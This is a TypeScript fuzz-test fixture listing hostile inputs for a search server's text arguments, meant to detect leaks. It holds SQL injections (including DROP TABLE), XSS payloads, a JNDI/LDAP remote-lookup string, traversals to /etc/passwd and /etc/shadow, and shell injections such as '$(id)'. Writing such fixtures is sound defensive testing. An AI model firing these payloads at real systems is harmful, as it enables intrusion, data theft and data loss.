// Hostile strings the fuzz test puts in every text argument: injections aimed at each layer that
// handles text (SQL, the search engines' query syntax, HTML, file paths, format strings, shells,
// templates, prototype keys) and the unicode that breaks naive text handling. None contains the
// markers the test looks for in answers (a stack frame, a PostgreSQL error, a file's content),
// so finding one there means the server leaked it, not that it echoed the input.

export const INJECTIONS: readonly string[] = [
  // SQL
  "' OR '1'='1",
  "' OR 1=1 --",
  '" OR ""="',
  '1; DROP TABLE "ControlProvision"; --',
  "6A003' UNION SELECT NULL, current_user, version() --",
  "'; SELECT pg_sleep(5); --",
  "%' AND 1=(SELECT COUNT(*) FROM pg_tables) AND '%'='",
  "$$ || (SELECT current_setting('data_directory')) || $$",
  "E'\\x27'",
  '\\',
  "'",
  '%',
  '_',
  '%%%%_%%',
  '*',
  // Full-text and filter syntax of the search engines
  'title = "x" OR 1 = 1',
  'regime IN [EU, US_EAR] AND NOT code EXISTS',
  '"unterminated phrase',
  '((((((',
  '-6A003 -',
  '.*+?^${}()|[]\\',
  'a'.repeat(600),
  // HTML and script
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '<svg/onload=alert(1)>',
  '</textarea><iframe src="//example.org">',
  // Templates and expression languages
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://example.org/a}',
  // Paths
  '../../../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\..\\windows\\win.ini',
  '/proc/self/environ',
  'file:///etc/shadow',
  '....//....//etc/hosts',
  // Format strings
  '%s%s%s%s%s%s%n',
  '%x%x%x%x',
  '{0}{1}{2}',
  '%(name)s',
  // Null bytes and control characters
  '6A003\u0000',
  '\u0000',
  'a\u0000b\u0000c',
  '%00',
  'line\r\nSet-Cookie: injected=1',
  '\u001b[31mred\u001b[0m',
  '\u0007\u0008\u000b\u000c',
  // Shells
  '; ls -la /',
  '$(id)',
  '`id`',
  '| cat /etc/hostname',
  // Object keys and numbers as text
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"$gt": ""}',
  'NaN',
  '-0',
  '1e309',
  '99999999999999999999999999',
  '',
  ' ',
];

export const UNICODE_EDGES: readonly string[] = [
  // Lone and reversed surrogates
  '\uD800',
  '\uDFFF',
  'a\uD83Dz',
  '\uDE00\uD83D',
  // Direction marks, zero-width and byte-order marks
  '\u202Ethermal camera',
  '6A\u200F003',
  'ther\u200Bmal',
  '\uFEFFlidar',
  '\u2066\u2069\u061C',
  // Emoji
  '🔥📷',
  '👨‍👩‍👧‍👦',
  '🇬🇧🇪🇺🇺🇸',
  '👍🏽',
  // Composed and decomposed forms, compatibility characters
  'caf\u00e9',
  'cafe\u0301',
  '\u212B',
  '\u1100\u1161\u11A8',
  '\uFB01lter',
  '６Ａ００３',
  'İstanbul',
  'STRASSE straße ẞ',
  'ὈΔΥΣΣΕΎΣ',
  'z\u0336\u0317\u0325a\u0337\u031f\u0355l\u0334\u0359g\u0335\u0316o\u0338\u0359',
  // Private use, non-characters and the last code point
  '\uE000',
  '\uFFFE\uFFFF',
  '\u{10FFFF}',
  '\u{1D400}\u{1D401}',
];

/** Raw UTF-8 byte sequences that are not valid UTF-8 (overlong forms, truncations, stray bytes). */
export const INVALID_UTF8: readonly number[][] = [
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xf0, 0x80, 0x80, 0xaf],
  [0xf8, 0x88, 0x80, 0x80, 0xaf],
  [0xc0, 0x80],
  [0xed, 0xa0, 0x80],
  [0xff, 0xfe],
  [0xe2, 0x82],
  [0x80],
  [0xf4, 0x90, 0x80, 0x80],
];
